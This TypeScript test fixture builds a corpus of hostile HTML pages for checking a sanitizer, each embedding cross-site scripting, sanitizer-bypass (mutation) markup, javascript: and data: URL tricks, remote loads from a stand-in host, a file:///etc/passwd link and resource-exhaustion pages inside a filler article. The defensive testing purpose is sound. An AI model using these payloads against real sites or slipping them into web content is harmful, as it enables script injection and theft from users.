import { rowsOf } from "./rows.ts"
/**
 * Pages that try to run a script in whatever shows them, or to load something from outside. Each has its attack within
 * an article of ordinary sentences, so that a reader finds an article and keeps what surrounds the attack.
 */

/** A page and the name of its attack. */
export interface HostilePage {
  readonly name: string
  readonly html: string
}

/** Sets this property of the top window, if it runs. */
export const RAN = "hostile"
const RUN = `top.${RAN}=1`
/** The host that attacks load from, if they can. */
export const HOSTILE_HOST = "hostile.example"
const LOAD = `https://${HOSTILE_HOST}`

const sentences = (subject: string) =>
  `<p>${`${subject} grew slowly through the cold months, and nobody in the village noticed, until spring came. `.repeat(4)}</p>`

const page = (attack: string) =>
  `<!doctype html><html lang="en"><head><title>The orchard</title></head><body><article><h1>The orchard</h1>${sentences("The trees")}${attack}${sentences("The fruit")}</article></body></html>`

/** Elements that run a script when a browser parses them. */
const elements: ReadonlyArray<string> = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src="${LOAD}/a.js"></script>`,
  `<script src="//${HOSTILE_HOST}/a.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script\0>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}//`,
  `<script>/*<p>*/${RUN}</script>`,
  `<script><!--\n${RUN}\n--></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><script xlink:href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><script>${RUN.replace("=", "&#61;")}</script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="${LOAD}/frame"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${LOAD}/o.swf" type="application/x-shockwave-flash"></object>`,
  `<object type="text/html" data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="${LOAD}/e.svg" type="image/svg+xml">`,
  `<applet code="javascript:${RUN}"></applet>`,
  `<base href="javascript:/${RUN}//"><a href="#">x</a>`,
  `<base href="${LOAD}/"><img src="relative.png">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=${LOAD}/">`,
  `<meta http-equiv="Set-Cookie" content="hostile=1">`,
  `<link rel="stylesheet" href="${LOAD}/a.css">`,
  `<link rel="stylesheet" href="javascript:${RUN}">`,
  `<link rel="preload" as="image" href="${LOAD}/p.png">`,
  `<link rel="import" href="${LOAD}/i.html">`,
  `<style>@import url(${LOAD}/a.css);</style>`,
  `<style>p{background:url(${LOAD}/b.png)}</style>`,
  `<style>*{x:expression(${RUN})}</style>`,
  `<svg><style>@import url(${LOAD}/s.css);</style></svg>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form id="f"></form><button form="f" formaction="javascript:${RUN}">x</button>`,
  `<form action="${LOAD}/"><input name="password" autofocus onfocus=${RUN}></form>`,
  `<isindex action="javascript:${RUN}" type="image">`,
  `<input type="image" src="${LOAD}/i.png">`,
  `<video poster="${LOAD}/v.png" src="${LOAD}/v.mp4" autoplay></video>`,
  `<audio src="${LOAD}/a.mp3" autoplay onloadstart=${RUN}></audio>`,
  `<video><source onerror="${RUN}"></video>`,
  `<bgsound src="${LOAD}/b.wav">`,
  `<layer src="${LOAD}/l.html"></layer>`,
  `<portal src="${LOAD}/"></portal>`,
  `<fencedframe></fencedframe>`,
  `<svg><image href="${LOAD}/i.svg"></image></svg>`,
  `<svg><use href="${LOAD}/u.svg#x"></use></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'/></svg>#x"></use></svg>`,
  `<svg><feImage href="${LOAD}/f.png"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!ENTITY x SYSTEM "${LOAD}/x"><p>&x;</p>`,
  `<xml src="${LOAD}/x.xml" id="x"></xml>`,
  `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
  `<template><script>${RUN}</script></template>`
]

/** Start tags of handlers that run by themselves or at a touch; `HANDLER` is replaced by the script. */
const handlers = rowsOf<string>(import.meta, "hostilePages.handlers")

/** Addresses that run a script or lead where no link may. */
const addresses: ReadonlyArray<string> = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `java&#0;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript&#x3a ${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}`,
  `&#0000106avascript:${RUN}`,
  `&amp;#106;avascript:${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `javascript:https://example.org/;${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `jar:javascript:${RUN}!`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `mocha:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuaG9zdGlsZT0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://example.org/00000000-0000-0000-0000-000000000000`,
  `filesystem:https://example.org/temporary/x`,
  `file:///etc/passwd`,
  `about:blank`,
  `mailto:a@example.org?body=x`,
  `tel:+43`,
  `intent://example.org#Intent;scheme=https;end`,
  `chrome://settings`,
  `ws://${HOSTILE_HOST}/`,
  `ftp://${HOSTILE_HOST}/`,
  `https:javascript:${RUN}`,
  `http://javascript:${RUN}@example.org`,
  `https://example.org/\\"onclick=${RUN}`,
  `https://[javascript:${RUN}`,
  `https://example.org/<script>${RUN}</script>`,
  `//example.org\\@${HOSTILE_HOST}`
]

/** Markup that one parser reads otherwise than the next: the attack is text in one and an element in the other. */
const mutations: ReadonlyArray<string> = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<noscript><style></noscript><img src=x onerror=${RUN}>`,
  `<style><style /><img src=x onerror=${RUN}></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
  `<iframe><a title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  `<noembed><a title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><a title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<pre>\n\n&lt;img src=x onerror=${RUN}&gt;</pre>`,
  `<pre><code class="language-html">&lt;script&gt;${RUN}&lt;/script&gt;</code></pre>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><title><style></title><img src=x onerror=${RUN}></style></svg>`,
  `<svg><desc><noscript></desc><img src=x onerror=${RUN}></svg>`,
  `<svg><p><style><g title="</style><img src onerror=${RUN}>"></p></svg>`,
  `<svg><foreignobject><p><style></foreignobject><img src=x onerror=${RUN}></style></svg>`,
  `<math><mi><style><img src=x onerror=${RUN}></style></mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math alttext="&lt;img src=x onerror=${RUN}&gt;"><mi>x</mi></math>`,
  `<math><semantics><mi>x</mi><annotation encoding="application/x-tex">&lt;img src=x onerror=${RUN}&gt;</annotation></semantics></math>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<math><mi href="javascript:${RUN}" xlink:href="javascript:${RUN}">x</mi></math>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>Words</text></a></svg>`,
  `<svg><a xmlns:y="http://www.w3.org/1999/xlink" y:href="javascript:${RUN}"><text>Words</text></a></svg>`,
  `<svg:script>${RUN}</svg:script>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!---><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>-->`,
  `<!-- <!-- --><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<svg><![CDATA[<img src=x onerror=${RUN}>]]></svg>`,
  `<![if IE]><img src=x onerror=${RUN}><![endif]>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<?php echo "><img src=x onerror=${RUN}>"; ?>`,
  `<!doctype html [<!ENTITY x "<img src=x onerror=${RUN}>">]>&x;`,
  `</p title="><img src=x onerror=${RUN}>">`,
  `</ ><img src=x onerror=${RUN}>`,
  `</!--><img src=x onerror=${RUN}>`,
  `<a title="x"y="><img src=x onerror=${RUN}>">Words</a>`,
  `<a title='"><img src=x onerror=${RUN}>'>Words</a>`,
  `<a "=" onclick=${RUN} ">Words</a>`,
  `<a href="x" href="javascript:${RUN}">Words</a>`,
  `<a href=javascript:${RUN} href=https://example.org/>Words</a>`,
  `<img src=x"onerror=${RUN}//">`,
  `<p>&lt;script&gt;${RUN}&lt;/script&gt;</p>`,
  `<p>&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;</p>`,
  `<p>&LT;script&GT;${RUN}&lt/script&gt</p>`,
  `<p>\u003cscript\u003e${RUN}\u003c/script\u003e</p>`,
  `<p>＜script＞${RUN}＜/script＞</p>`,
  `<p>+ADw-script+AD4-${RUN}+ADw-/script+AD4-</p>`,
  `<p>{{constructor.constructor('${RUN}')()}}</p>`,
  `<p>\${${RUN}}</p>`,
  `<table><p><table><tr><td><p><table><img src=x onerror=${RUN}></table></table></table>`,
  `<table>Words<img src=x onerror=${RUN}><tr>Words<td>Words</table>`,
  `<select><img src=x onerror=${RUN}></select>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<button><a><button><img src=x onerror=${RUN}></button></a></button>`,
  `<a href="https://example.org/1"><table><tr><td><a href="javascript:${RUN}">Words</a></td></tr></table></a>`,
  `<b><i></b><img src=x onerror=${RUN}></i>`,
  `<h1><h2></h1><img src=x onerror=${RUN}></h2>`,
  `<p id="top"><img name="body" id="body" src="https://example.org/a.png"><a id="location" name="location" href="https://example.org/">Words</a></p>`,
  `<form name="body"><input name="firstChild"><img name="createElement"></form>`,
  `<a id=x><a id=x name=click href="javascript:${RUN}">Words</a>`,
  `<ul><li id="__proto__"><a href="#__proto__">Words</a></li><li id="constructor"><a href="#constructor">Words</a></li></ul>`,
  `<p \u0000onclick=${RUN}>Words</p>`,
  `<p\u0000 onclick=${RUN}>Words</p>`,
  `<p>Words\u0000\u0001\u0008\u000b\u000c\u001b\u007f\u0085\u009f\ufffe\uffff</p>`,
  `<p>\u202eWords\u2066\u200b\ufeff</p>`,
  `<p>\ud800 Words &#xD800; &#55357; &#x110000; &#0; &#128;</p>`,
  `<p style="background:url(${LOAD}/p.png)">Words</p>`,
  `<p style="background:\\75\\72\\6c(${LOAD}/p.png)">Words</p>`,
  `<p style="-moz-binding:url(${LOAD}/x.xml#x);behavior:url(${LOAD}/x.htc)">Words</p>`,
  `<p class="reader-toolbar" data-missing role="alert" aria-label="Words" slot="x" part="y" is="z">Words</p>`
]

/** Pictures and links of other kinds than an article's own, which load something if they are copied. */
const loads: ReadonlyArray<string> = [
  `<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nMScvPg==">`,
  `<img src="blob:https://${HOSTILE_HOST}/x">`,
  `<img src="" srcset="javascript:${RUN} 1x, data:image/gif;base64,R0lGODlhAQABAAAAACw= 2x">`,
  `<img data-src="javascript:${RUN}" src="${LOAD}/i.png">`,
  `<img src="${LOAD}/i.png" srcset="${LOAD}/i2.png 2x" sizes="100vw" loading="eager" fetchpriority="high">`,
  `<img lowsrc="javascript:${RUN}" dynsrc="javascript:${RUN}" longdesc="javascript:${RUN}" src="${LOAD}/l.png">`,
  `<img src="${LOAD}/i.png" usemap="#m"><map name="m"><area href="javascript:${RUN}" shape="default"></map>`,
  `<picture><source srcset="${LOAD}/s.webp" type="image/webp"><img src="${LOAD}/i.png"></picture>`,
  `<a href="${LOAD}/" ping="${LOAD}/ping" download="x" target="_top" rel="opener">Words</a>`,
  `<a href="https://example.org/" attributionsrc="${LOAD}/a">Words</a>`,
  `<q cite="${LOAD}/q">Words</q><del cite="javascript:${RUN}">Words</del>`,
  `<video controls><track src="${LOAD}/t.vtt" default></video>`,
  `<link rel="dns-prefetch" href="${LOAD}"><link rel="icon" href="${LOAD}/icon.png">`,
  `<div itemscope><link itemprop="url" href="${LOAD}/x"></div>`
]

const MEGABYTE = 1024 * 1024

/** Pages that cost their reader much, with an attack behind it. */
const bombs: ReadonlyArray<readonly [name: string, attack: string]> = [
  ["20,000 nested divisions", `${"<div>".repeat(20_000)}<img src=x onerror=${RUN}>`],
  ["600 nested quotations", `${"<blockquote>".repeat(600)}<p onclick=${RUN}>Words</p>`],
  ["600 nested lists", `${"<ul><li>".repeat(600)}<a href="javascript:${RUN}">Words</a>`],
  ["600 nested tables", `${"<table><tr><td>".repeat(600)}<img src=x onerror=${RUN}>`],
  ["600 nested elements of a line", `<p>${"<b><i>".repeat(600)}<svg onload=${RUN}>Words</p>`],
  ["600 nested drawings", `${"<svg><foreignObject>".repeat(600)}<img src=x onerror=${RUN}>`],
  ["20,000 links in each other", `<p>${`<a href="javascript:${RUN}">x`.repeat(20_000)}</p>`],
  [
    "20,000 targets",
    `<p>${Array.from({ length: 20_000 }, (_, at) => `<a id=x${at} href=#x${at}>x</a> `).join("")}</p>`
  ],
  ["an attribute of a megabyte", `<p><img src=x alt="${"&lt;".repeat(MEGABYTE / 4)}" onerror=${RUN}></p>`],
  [
    "2,000 attributes",
    `<p ${Array.from({ length: 2_000 }, (_, at) => `x${at}=1`).join(" ")} onclick=${RUN}>Words</p>`
  ],
  ["5 MB of tags that never end", `<p>${"<a ".repeat(Math.floor((5 * MEGABYTE) / 3))}`],
  [
    "5 MB of sentences",
    `<p>${`Words of the article, and more of them. <script>${RUN}</script>`.repeat(Math.floor((5 * MEGABYTE) / 65))}</p>`
  ]
]

const named = (kind: string, attacks: ReadonlyArray<string>): ReadonlyArray<HostilePage> =>
  attacks.map((attack, at) => ({ name: `${kind} ${at + 1}: ${attack.slice(0, 80)}`, html: page(attack) }))

const inTag = (address: string) => address.replaceAll('"', "&quot;")

/** The attacks whose pages are small, in ways that sanitizers have failed at. */
const small: ReadonlyArray<HostilePage> = [
  ...named("element", elements),
  ...named(
    "handler",
    handlers.map((tag) => tag.replaceAll("HANDLER", RUN))
  ),
  ...named(
    "link",
    addresses.map((address) => `<p>Words <a href="${inTag(address)}">of a link</a>.</p>`)
  ),
  ...named(
    "picture",
    addresses.map(
      (address) => `<figure><img src="${inTag(address)}" alt="Words"><figcaption>Words</figcaption></figure>`
    )
  ),
  ...named("mutation", mutations),
  ...named("load", loads)
]

/** Where an attack is repeated: within elements that parsers treat in their own way. */
const places: ReadonlyArray<readonly [name: string, start: string, end: string]> = [
  ["a cell", "<table><tr><td>Words", "</td></tr></table>"],
  ["code", "<pre><code>words\n", "</code></pre>"],
  ["an item of a list", "<ul><li>Words ", "</li></ul>"],
  ["a heading", "<h2>Words ", "</h2>"],
  ["a caption", '<figure><img src="https://example.org/a.png"><figcaption>Words ', "</figcaption></figure>"],
  ["a link", '<p><a href="https://example.org/">Words ', "</a></p>"],
  ["a formula", "<math><mtext>", "</mtext></math>"],
  ["a drawing", "<svg><foreignObject>", "</foreignObject></svg>"]
]

/** All the small attacks in one kind of place, as one page each. */
const placed: ReadonlyArray<HostilePage> = places.flatMap(([name, start, end]) =>
  [handlers.map((tag) => tag.replaceAll("HANDLER", RUN)), mutations].map((attacks, at) => ({
    name: `${at === 0 ? "handlers" : "mutations"} in ${name}`,
    html: page(attacks.map((attack) => `${start}${attack}${end}`).join("\n"))
  }))
)

/** The whole collection. */
export const hostilePages: ReadonlyArray<HostilePage> = [
  ...small,
  ...placed,
  ...bombs.map(([name, attack]) => ({ name, html: page(attack) }))
]
